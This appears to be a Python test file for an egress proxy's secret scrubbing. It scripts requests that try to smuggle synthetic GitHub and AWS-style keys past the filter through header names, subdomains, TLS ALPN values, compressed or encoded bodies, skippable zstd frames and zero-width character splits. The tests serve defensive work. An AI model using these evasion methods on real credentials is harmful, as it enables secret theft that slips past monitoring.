"""Attempts to get a key out through a host that is listed: in names, in words beside the message, under false labels,
packed, and in what ordinary programs make of a text.

Every key is made up by the attempt, with the mark in it. It must not arrive, in the clear, in base64 or in hexadecimal:
what can be edited arrives without it (`reached`), what cannot be edited does not leave (`finding-blocked`).
"""

from vibedom.attack.web_client import web_attempt

_KEYS = r"""
import base64, gzip, random, string, zlib
some = lambda alphabet, count: "".join(random.SystemRandom().choices(alphabet, k=count))
key = "ghp_" + "smuggled" + some(string.ascii_letters + string.digits, 28)
cloud = "AKIA" + "SMUGGLED" + some(string.ascii_uppercase + "234567", 8)
k = key.encode()
note = b"# notes of today\nGITHUB_TOKEN=" + k + b"\nMODE=test of everything\n"

def ask(*lines, line="GET / HTTP/1.1", host=PLAIN):
    say(plain, head(line, f"Host: {host}", *lines, "Connection: close"))

def post(body, label, *lines):
    say(plain, head("POST / HTTP/1.1", "Host: " + PLAIN, f"Content-Type: {label}", f"Content-Length: {len(body)}",
                    *lines, "Connection: close", body=body))

def part(body, label="text/plain", name="a"):
    head = b"--B\r\nContent-Disposition: form-data; name=a; filename=%b\r\nContent-Type: %b\r\n\r\n"
    return head % (name.encode(), label.encode()) + body + b"\r\n--B--\r\n"
"""
_FORM = "multipart/form-data; boundary=B"

SCRUBBING = (
    web_attempt(
        "words-in-a-handshake",
        _KEYS + "made = ssl.create_default_context(cafile='/etc/vibedom/ca-bundle.pem')\n"
        "made.set_alpn_protocols(['http/1.1', key])\n"
        "with socket.create_connection(secure, 5) as s:\n"
        "    s = made.wrap_socket(s, server_hostname=SECURE)\n"
        "    s.sendall(get('/', host=SECURE)); print(told(hear(s)))",
        "reached",
    ),
    web_attempt(
        "key-in-a-name",
        f"{_KEYS}ask(f'X-{{key}}: 1')\nask(f'x-{{cloud.lower()}}: 1')\nask(f'Cookie: {{key}}=1')\n"
        "ask(line=f'GET /?{key}=1 HTTP/1.1')\nask(line=f'{cloud} / HTTP/1.1')\n"
        f"post(part(b'x', name=key), '{_FORM}')\npost(b'--' + k + b'--', 'multipart/form-data; boundary=' + key)",
        *("reached", "reached", "reached", "reached", "closed|malformed", "reached", "reached"),
    ),
    web_attempt(
        "key-as-the-name-of-a-host",
        f"{_KEYS}for name in (cloud, cloud.lower()): ask(host=name + '.' + WILD)\n"
        "ask(f'Origin: https://{key}.example.com')\nask(f'Referer: https://{key}.example.com/')",
        *("finding-blocked", "finding-blocked", "reached", "reached"),
    ),
    web_attempt(
        "key-in-headers-of-the-protocol",
        f"{_KEYS}for name in ('Accept-Encoding', 'Range', 'TE', 'Content-Type', 'Sec-WebSocket-Key', 'Expect'):\n"
        "    ask(f'{name}: {key}')\n"
        "body = b'1\\r\\nx\\r\\n0\\r\\nX-Sum: ' + k + b'\\r\\n\\r\\n'\n"
        "say(plain, head('POST / HTTP/1.1', 'Host: ' + PLAIN, 'Transfer-Encoding: chunked', 'Connection: close',\n"
        "                body=body))",
        *7 * ("reached",),
    ),
    web_attempt(
        "key-under-a-binary-label",
        f"{_KEYS}for label in ('application/octet-stream', 'image/png', 'application/grpc'): "
        "post(b'\\0\\xff' + k + b'\\0', label)",
        *3 * ("finding-blocked|closed",),
    ),
    web_attempt(
        "packed-key-under-any-label",
        f"{_KEYS}packed = gzip.compress(note)\n"
        "for label in ('application/gzip', 'text/plain', 'application/json', ''): post(packed, label)\n"
        f"post(part(packed), '{_FORM}')\n"
        "post(json.dumps({'file': base64.b64encode(packed).decode()}).encode(), 'application/json')\n"
        "post(b'PACK' + bytes(8) + b'\\xb9\\x1e' + zlib.compress(note), 'application/octet-stream')",
        *7 * ("finding-blocked",),
    ),
    # A decoder passes over the name of a file, and over a frame that is to be skipped.
    web_attempt(
        "key-in-what-a-decoder-passes-over",
        f"{_KEYS}named = b'\\x1f\\x8b\\x08\\x08' + bytes(5) + b'\\3' + k + b'\\0' + gzip.compress(b'hello')[10:]\n"
        "post(named, 'text/plain', 'Content-Encoding: gzip')\n"
        "skipped = b'\\x50\\x2a\\x4d\\x18' + len(k).to_bytes(4, 'little') + k\n"
        "post(skipped + b'\\x28\\xb5\\x2f\\xfd\\x20\\2\\x11\\0\\0hi', 'text/plain', 'Content-Encoding: zstd')",
        *2 * ("finding-blocked",),
    ),
    web_attempt(
        "key-between-letters-of-binary-records",
        f"{_KEYS}c = cloud.encode()\n"
        "for body in (b'\\xa1\\x61k' + bytes((0x60 | len(c),)) + c + b'\\xf6\\xff', "
        "b'\\x08\\x96\\x01' + b'\\x2a\\x14' + c + b'\\x32\\4next',\n"
        "             b'\\0\\xffname' + k + b'\\0', b'\\xff' + key.encode('utf-16-le')):\n"
        "    post(body, 'application/octet-stream')",
        *4 * ("finding-blocked",),
    ),
    web_attempt(
        "key-as-programs-write-it",
        f"{_KEYS}wide = base64.b64encode(note).decode()\n"
        "for text in ('data: |\\n  ' + '\\n  '.join(wide[i:i + 64] for i in range(0, len(wide), 64)), note.hex(), "
        "'0x' + note.hex(),\n"
        "             'ghp\\x1b[0m_' + key[4:], 'ghp_\\u200b' + key[4:], 'ghp\\\\_' + key[4:], 'ghp&#95;' + key[4:],\n"
        "             json.dumps({'x': 'ghp\\u00ad_' + key[4:]}), 'ghp%255F' + key[4:]):\n"
        "    post(text.encode(), 'text/plain')",
        *9 * ("reached",),
    ),
    web_attempt(
        "key-in-letters-of-two-or-four-bytes",
        f"{_KEYS}for codec in ('utf-16-le', 'utf-16-be', 'utf-32-le', 'utf-32-be'): "
        "post(('x ' + key).encode(codec), 'text/plain')",
        *4 * ("reached|finding-blocked",),
    ),
    web_attempt(
        "key-in-the-words-behind-a-status",
        "with socket.create_connection(plain, 5) as s:\n"
        "    s.sendall(get('/words', host=PLAIN)); answer = hear(s)\n"
        "if b'smuggled' in answer: escaped(answer[:80])\n"
        "print(told(answer))",
        "reached",
    ),
    web_attempt(
        "answer-whose-head-is-cut",
        "say(plain, get('/cut', host=PLAIN))",
        "closed",
    ),
)
